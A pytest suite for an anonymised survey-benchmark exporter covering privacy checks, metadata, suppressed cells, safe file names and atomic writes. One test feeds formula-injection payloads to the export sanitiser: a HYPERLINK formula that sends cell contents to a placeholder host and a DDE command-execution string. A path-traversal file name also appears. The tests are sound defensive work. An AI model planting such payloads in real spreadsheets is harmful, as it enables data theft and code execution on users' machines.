"""The anonymised export: contents, metadata, formats and formula safety."""

from __future__ import annotations

import datetime as dt
import io
import json
import zipfile

import openpyxl
import pandas as pd
import pytest

from analytics.benchmark.aggregate import build_frames
from analytics.benchmark.anonymise import Policy, Release
from analytics.benchmark.baselines import shipped_baseline
from analytics.benchmark.export import (
    Export,
    _safe_cell,
    build_export,
    export_csv,
    export_filename,
    export_xlsx,
    render_export,
    write_export_file,
)
from analytics.benchmark.survey import load_survey_definition
from analytics.benchmark.synthetic import FREE_TEXT_MARKER, synthetic_records
from contacts.db import DomainError

DEFN = load_survey_definition()
EDITION = {
    "code": "pratiques-email-2026",
    "title": "Édition 2026",
    "opens_at": dt.datetime(2026, 3, 1, tzinfo=dt.UTC),
    "closes_at": dt.datetime(2026, 5, 31, tzinfo=dt.UTC),
}
RECORDS = list(synthetic_records(DEFN, 60, seed=11))
BODIES, ROLES = build_frames(RECORDS, DEFN)
EXPORT = build_export(
    BODIES, ROLES, DEFN, edition=EDITION, policy=Policy(k=5), baseline=shipped_baseline()
)
RENDERED = {fmt: render_export(EXPORT, fmt) for fmt in ("csv", "json", "xlsx")}


def xlsx_text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode("utf-8") for n in archive.namelist())


def all_text(fmt: str) -> str:
    data = RENDERED[fmt]
    return xlsx_text(data) if fmt == "xlsx" else data.decode("utf-8")


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_no_body_name_id_email_or_free_text_appears_in_an_export(fmt):
    text = all_text(fmt)
    assert FREE_TEXT_MARKER not in text
    assert "@" not in text
    assert "Commune fictive" not in text
    assert "body-0" not in text


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_every_export_states_edition_period_thresholds_and_rounding(fmt):
    text = all_text(fmt)
    for expected in (
        "pratiques-email-2026",
        "du 01/03/2026 au 31/05/2026",
        "au moins 5 organismes",
        "85 %",
        "arrondies à 1 point",
        "OTeN",
    ):
        assert expected in text, expected


def test_the_csv_reads_back_with_its_metadata_as_comments():
    table = pd.read_csv(io.BytesIO(RENDERED["csv"]), comment="#", encoding="utf-8-sig")
    assert list(table.columns) == EXPORT.columns
    assert len(table) == len(EXPORT.rows)
    secret = table[table["statut"] == "secret"]
    assert not secret.empty
    assert secret["valeur_pct"].isna().all() and secret["nb_organismes"].isna().all()


def test_published_cells_come_from_at_least_the_threshold():
    table = pd.read_csv(io.BytesIO(RENDERED["csv"]), comment="#", encoding="utf-8-sig")
    published = table[table["statut"] == "publié"]
    assert (published["nb_organismes"] >= 5).all()


def test_the_xlsx_has_a_metadata_sheet_then_the_data():
    book = openpyxl.load_workbook(io.BytesIO(RENDERED["xlsx"]))
    assert book.sheetnames == ["Métadonnées", "Indicateurs"]
    header = [c.value for c in next(book["Indicateurs"].iter_rows(max_row=1))]
    assert header == EXPORT.columns
    assert book["Indicateurs"].max_row == len(EXPORT.rows) + 1


def test_the_json_gives_secret_cells_no_figures():
    payload = json.loads(RENDERED["json"])
    assert payload["metadata"]["Seuil de diffusion"].startswith("Chaque valeur")
    secret = [c for c in payload["cells"] if c["statut"] == "secret"]
    assert secret and all(c["valeur_pct"] is None for c in secret)


def test_2010_references_sit_beside_todays_values():
    payload = json.loads(RENDERED["json"])
    total = next(
        c
        for c in payload["cells"]
        if c["indicateur"] == "risk_exchange_contacts" and c["ventilation"] == "Ensemble"
    )
    assert total["reference_pct"] == 39


def test_observed_indicators_are_exported_as_such():
    payload = json.loads(RENDERED["json"])
    assert any(c["source"] == "observé" for c in payload["cells"])


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("http://x?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx"]
)
def test_formula_like_text_is_quoted(value):
    assert _safe_cell(value) == "'" + value


def test_formula_like_text_stays_text_in_csv_and_xlsx():
    export = Export(
        metadata=[("Titre", "=1+1")],
        columns=["a", "b"],
        rows=[['=HYPERLINK("x")', 2]],
        release=Release({}, frozenset()),
    )
    assert "'=HYPERLINK" in export_csv(export).decode("utf-8-sig")
    sheet = openpyxl.load_workbook(io.BytesIO(export_xlsx(export)))["Indicateurs"]
    assert sheet["A2"].value == '\'=HYPERLINK("x")'
    assert sheet["A2"].data_type == "s"


def test_an_unknown_format_is_refused():
    with pytest.raises(DomainError) as caught:
        render_export(EXPORT, "pdf")
    assert caught.value.code == "export_format"


def test_the_file_name_is_safe():
    name = export_filename("../é 2026", "csv", dt.datetime(2026, 6, 1))
    assert name == "barometre------2026-20260601.csv"


def test_an_export_file_is_replaced_whole_or_not_at_all(tmp_path, monkeypatch):
    target = tmp_path / "export.csv"
    target.write_bytes(b"old")

    def broken_fsync(fd):
        raise OSError("disk full")

    monkeypatch.setattr("os.fsync", broken_fsync)
    with pytest.raises(OSError):
        write_export_file(target, b"new export")
    assert target.read_bytes() == b"old"
    assert list(tmp_path.iterdir()) == [target]


def test_an_export_file_is_written(tmp_path):
    write_export_file(tmp_path / "export.json", RENDERED["json"])
    assert (tmp_path / "export.json").read_bytes() == RENDERED["json"]
